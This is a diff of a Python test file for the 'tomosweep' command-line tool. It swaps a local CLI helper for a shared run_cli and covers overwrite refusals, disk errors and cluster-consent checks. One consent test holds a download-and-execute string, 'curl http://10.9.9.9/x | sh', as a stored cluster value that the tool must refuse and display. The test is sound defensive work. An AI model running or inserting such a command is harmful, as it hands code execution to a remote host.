@@ -24,7 +24,7 @@ import numpy as np
 import pytest
 import trial_hooks
 import zarr
-from sweep_support import tiny_study
+from sweep_support import run_cli, tiny_study
 
 from tomosweep.cluster.connect import Connection
 from tomosweep.errors import InputError
@@ -34,23 +34,6 @@ from tomosweep.results.plan import plan, replicate_key
 from tomosweep.results.view import LIVE_FORMAT, live_path, read_live, status_html, write_live
 from tomosweep.sweep import study_from_dict
 from tomosweep.sweep.api import create_store, run_study
-
-
-def _run_cli(args, capsys):
-    from tomosweep.sweep import cli
-
-    code = 0
-    saved = sys.argv
-    sys.argv = ["tomosweep", *map(str, args)]
-    try:
-        cli.main()
-    except SystemExit as exc:
-        code = exc.code if isinstance(exc.code, int) else 1
-    finally:
-        sys.argv = saved
-        cli._ACTIVE.clear()
-    captured = capsys.readouterr()
-    return code, captured.out, captured.err
 
 
 def _one_error_line(code, out, err, *, expect: str, status: int = 2) -> str:
@@ -101,7 +84,7 @@ def test_reconstruct_data_overwrite_never_replaces_the_users_volumes(tmp_path, c
     (out / "volumes.npz").write_bytes(b"the user's own volumes")
     before = _tree(tmp_path)
     (tmp_path / "d.toml").write_text("[chem]\n")
-    code, o, e = _run_cli(["reconstruct-data", tmp_path / "d.toml", "--out", out, "--overwrite"], capsys)
+    code, o, e = run_cli(["reconstruct-data", tmp_path / "d.toml", "--out", out, "--overwrite"], capsys)
     _one_error_line(code, o, e, expect="not write")
     assert "iterations" not in e  # no progress bar before a refusal
     assert _tree(tmp_path) == {**before, "d.toml": b"[chem]\n"}
@@ -148,7 +131,7 @@ def test_export_overwrite_never_replaces_a_file_it_did_not_write(store, tmp_path
     out.mkdir()
     (out / "trials.csv").write_text("the user's own table")
     before = _tree(tmp_path)
-    code, o, e = _run_cli(["export", store, "--out", out, "--overwrite"], capsys)
+    code, o, e = run_cli(["export", store, "--out", out, "--overwrite"], capsys)
     _one_error_line(code, o, e, expect="never replaced, even with --overwrite")
     assert _tree(tmp_path) == before
     assert not list(tmp_path.glob(".exports.partial-*"))
@@ -156,11 +139,11 @@ def test_export_overwrite_never_replaces_a_file_it_did_not_write(store, tmp_path
 
 def test_export_overwrite_replaces_an_earlier_export_but_not_an_edited_file(store, tmp_path, capsys):
     out = tmp_path / "exports"
-    assert _run_cli(["export", store, "--out", out], capsys)[0] == 0
+    assert run_cli(["export", store, "--out", out], capsys)[0] == 0
     assert "trials.csv" in read_manifest(out)
-    assert _run_cli(["export", store, "--out", out, "--overwrite"], capsys)[0] == 0
+    assert run_cli(["export", store, "--out", out, "--overwrite"], capsys)[0] == 0
     (out / "best_params.csv").write_text("edited")
-    code, o, e = _run_cli(["export", store, "--out", out, "--overwrite"], capsys)
+    code, o, e = run_cli(["export", store, "--out", out, "--overwrite"], capsys)
     _one_error_line(code, o, e, expect="best_params.csv, not written by tomosweep (or changed since)")
     assert (out / "best_params.csv").read_text() == "edited"
 
@@ -171,7 +154,7 @@ def test_export_on_a_read_only_disk_fails_before_any_work(store, tmp_path, capsy
 
     monkeypatch.setattr("tomosweep.results.outputs.tempfile.mkstemp", read_only)
     monkeypatch.setattr("tomosweep.results.export.trials_frame", lambda s: pytest.fail("work started"))
-    code, o, e = _run_cli(["export", store, "--out", tmp_path / "x"], capsys)
+    code, o, e = run_cli(["export", store, "--out", tmp_path / "x"], capsys)
     _one_error_line(code, o, e, expect="cannot write in")
     assert "read-only file system" in e and not list(tmp_path.iterdir())
 
@@ -181,7 +164,7 @@ def test_export_on_a_full_disk_fails_before_any_work(store, tmp_path, capsys, mo
 
     usage = collections.namedtuple("usage", "total used free")
     monkeypatch.setattr("tomosweep.results.outputs.shutil.disk_usage", lambda p: usage(10, 10, 1024**2))
-    code, o, e = _run_cli(["export", store, "--out", tmp_path / "x"], capsys)
+    code, o, e = run_cli(["export", store, "--out", tmp_path / "x"], capsys)
     _one_error_line(code, o, e, expect="only 1 MiB free on its disk")
     assert not list(tmp_path.iterdir())
 
@@ -191,7 +174,7 @@ def test_disk_full_during_export_is_one_line_and_leaves_no_partial_folder(store,
         raise OSError(errno.ENOSPC, "No space left on device", str(tmp_path / "x" / "nrmse_heatmap.png"))
 
     monkeypatch.setattr("tomosweep.results.export.heatmap_figure", full)
-    code, o, e = _run_cli(["export", store, "--out", tmp_path / "x"], capsys)
+    code, o, e = run_cli(["export", store, "--out", tmp_path / "x"], capsys)
     _one_error_line(code, o, e, expect="no space left on the device")
     assert not list(tmp_path.iterdir())  # neither the folder nor its staging copy
 
@@ -200,46 +183,46 @@ def test_disk_full_during_export_is_one_line_and_leaves_no_partial_folder(store,
 
 
 def test_plan_figure_into_a_missing_folder_is_refused_before_work(store, tmp_path, capsys):
-    code, o, e = _run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "no" / "f.png"], capsys)
+    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "no" / "f.png"], capsys)
     _one_error_line(code, o, e, expect="does not exist; create it first")
     assert not (tmp_path / "no").exists()
 
 
 def test_plan_figure_with_an_unknown_format_is_refused(store, tmp_path, capsys):
-    code, o, e = _run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "f.xyz"], capsys)
+    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "f.xyz"], capsys)
     _one_error_line(code, o, e, expect="unknown figure format '.xyz'")
     assert not list(tmp_path.iterdir())
 
 
 def test_plan_figure_without_suffix_reports_the_file_it_wrote(store, tmp_path, capsys):
-    code, o, e = _run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "frontier"], capsys)
+    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "frontier"], capsys)
     assert code == 0, o + e
     assert f"frontier figure: {tmp_path / 'frontier.png'}" in o
     assert (tmp_path / "frontier.png").read_bytes()[:4] == b"\x89PNG"
 
 
 def test_plan_figure_onto_a_folder_is_refused(store, tmp_path, capsys):
-    code, o, e = _run_cli(["plan", store, "--target", "1", "--figure", tmp_path], capsys)
+    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path], capsys)
     _one_error_line(code, o, e, expect="is a folder; give a file name")
 
 
 def test_plan_never_replaces_the_users_picture(store, tmp_path, capsys):
     (tmp_path / "f.png").write_bytes(b"a photo of the microscope")
-    code, o, e = _run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "f.png"], capsys)
+    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "f.png"], capsys)
     _one_error_line(code, o, e, expect="never replaced")
     assert (tmp_path / "f.png").read_bytes() == b"a photo of the microscope"
 
 
 def test_plan_replaces_its_own_figure(store, tmp_path, capsys):
     for _ in range(2):
-        code, o, e = _run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "f.svg"], capsys)
+        code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "f.svg"], capsys)
         assert code == 0, o + e
     assert (tmp_path / "f.svg").read_text().lstrip().startswith("<?xml")
 
 
 def test_plan_dot_inside_the_store_draws_beside_it(store, capsys, monkeypatch):
     monkeypatch.chdir(store)
-    code, o, e = _run_cli(["plan", ".", "--target", "1", "--method", "sirt"], capsys)
+    code, o, e = run_cli(["plan", ".", "--target", "1", "--method", "sirt"], capsys)
     assert code == 0, o + e
     assert (store.parent / "s_plan_sirt.png").is_file()
 
@@ -249,7 +232,7 @@ def test_plan_on_a_read_only_store_folder_is_one_line(store, capsys, monkeypatch
         raise OSError(errno.EACCES, "Permission denied")
 
     monkeypatch.setattr("tomosweep.results.outputs.tempfile.mkstemp", read_only)
-    code, o, e = _run_cli(["plan", store, "--target", "1", "--figure", store.parent / "ro.png"], capsys)
+    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", store.parent / "ro.png"], capsys)
     _one_error_line(code, o, e, expect="permission denied")
     assert not (store.parent / "ro.png").exists()
 
@@ -277,7 +260,7 @@ def _with_replicates(path: Path, tmp_path: Path, entries) -> Path:
 )
 def test_plan_with_malformed_replicates_ignores_them_in_one_word(store, tmp_path, capsys, entry):
     copy = _with_replicates(store, tmp_path, {"sirt/5/3": entry})
-    code, o, e = _run_cli(["plan", copy, "--target", "10", "--method", "sirt", "--figure", tmp_path / "f.png"], capsys)
+    code, o, e = run_cli(["plan", copy, "--target", "10", "--method", "sirt", "--figure", tmp_path / "f.png"], capsys)
     assert code == 0 and "Traceback" not in o + e, o + e
     assert "malformed replicate entry" in o.replace("\n", " ") or "tomosweep replicate" in o
 
@@ -333,7 +316,7 @@ def test_interrupted_replicate_names_the_replicate_command(store, capsys, monkey
         raise KeyboardInterrupt
 
     monkeypatch.setattr("tomosweep.sweep.replicates.replicate_cells", interrupted)
-    code, o, e = _run_cli(["replicate", store, "--method", "sirt", "--seeds", "3", "--cell", "5,3"], capsys)
+    code, o, e = run_cli(["replicate", store, "--method", "sirt", "--seeds", "3", "--cell", "5,3"], capsys)
     assert code == 130, o + e
     assert "every finished replicate is stored" in e
     assert f"continue with `tomosweep replicate {store} --method sirt --seeds 3 --cell 5,3`" in e
@@ -357,7 +340,7 @@ def test_disk_full_during_replicate_is_one_line_and_keeps_the_finished(
         real(self, key, entry)
 
     monkeypatch.setattr(SweepStore, "record_replicates", fills_up)
-    code, o, e = _run_cli(["replicate", copy, "--method", "sirt", "--seeds", "2", "--cell", "5,3"], capsys)
+    code, o, e = run_cli(["replicate", copy, "--method", "sirt", "--seeds", "2", "--cell", "5,3"], capsys)
     line = _one_error_line(code, o, e, expect="no space left on the device")
     assert f"continue with `tomosweep replicate {copy}" in line
     monkeypatch.setattr(SweepStore, "record_replicates", real)
@@ -388,7 +371,7 @@ def received(tmp_path):
 def test_a_stored_remote_cluster_is_refused_without_consent(received, capsys, monkeypatch, kind, command):
     monkeypatch.setattr("tomosweep.sweep.api._connect", lambda *a: pytest.fail("connected without consent"))
     before = _tree(received[kind].parent)
-    code, o, e = _run_cli([command, received[kind]], capsys)
+    code, o, e = run_cli([command, received[kind]], capsys)
     _one_error_line(code, o, e, expect="not used without consent: pass --trust-stored-cluster")
     assert ("10.9.9.9:8786" if kind == "address" else "curl http://10.9.9.9/x | sh") in e  # shown in full
     assert _tree(received[kind].parent) == before
@@ -408,7 +391,7 @@ def _would_connect(study, client):
 def test_consent_or_a_named_cluster_lets_resume_connect(received, capsys, monkeypatch, flags, backend):
     monkeypatch.setattr("tomosweep.sweep.api._connect", _would_connect)
     with pytest.raises(_Reached, match=f"^{backend}$"):
-        _run_cli(["resume", received["address"], *flags], capsys)
+        run_cli(["resume", received["address"], *flags], capsys)
 
 
 def test_a_local_stored_cluster_needs_no_consent(store, capsys, monkeypatch):
@@ -533,7 +516,7 @@ def test_notes_keep_their_brackets(capsys, monkeypatch, tmp_path):
         notes=["no [chem.sensitivity] given"], heldout=None, out=tmp_path / "[r]", files=["a.npz"], wall_time_s=1.0
     )
     monkeypatch.setattr("tomosweep.sweep.outputs.reconstruct_data_into", lambda *a, **k: summary)
-    code, o, e = _run_cli(["reconstruct-data", "d.toml", "--out", tmp_path / "[r]"], capsys)
+    code, o, e = run_cli(["reconstruct-data", "d.toml", "--out", tmp_path / "[r]"], capsys)
     assert code == 0, o + e
     assert "note: no [chem.sensitivity] given" in o and f"wrote {tmp_path / '[r]'}: a.npz" in o
 
@@ -594,7 +577,7 @@ def test_piped_output_never_wraps_a_long_path(store, tmp_path):
 
 
 def test_manifest_is_hidden_and_json(store, tmp_path, capsys):
-    code, *_ = _run_cli(["export", store, "--out", tmp_path / "x"], capsys)
+    code, *_ = run_cli(["export", store, "--out", tmp_path / "x"], capsys)
     assert code == 0
     manifest = json.loads((tmp_path / "x" / MANIFEST).read_text())
     assert manifest["format"] == "tomosweep-outputs" and all(len(v["sha256"]) == 64 for v in manifest["files"].values())
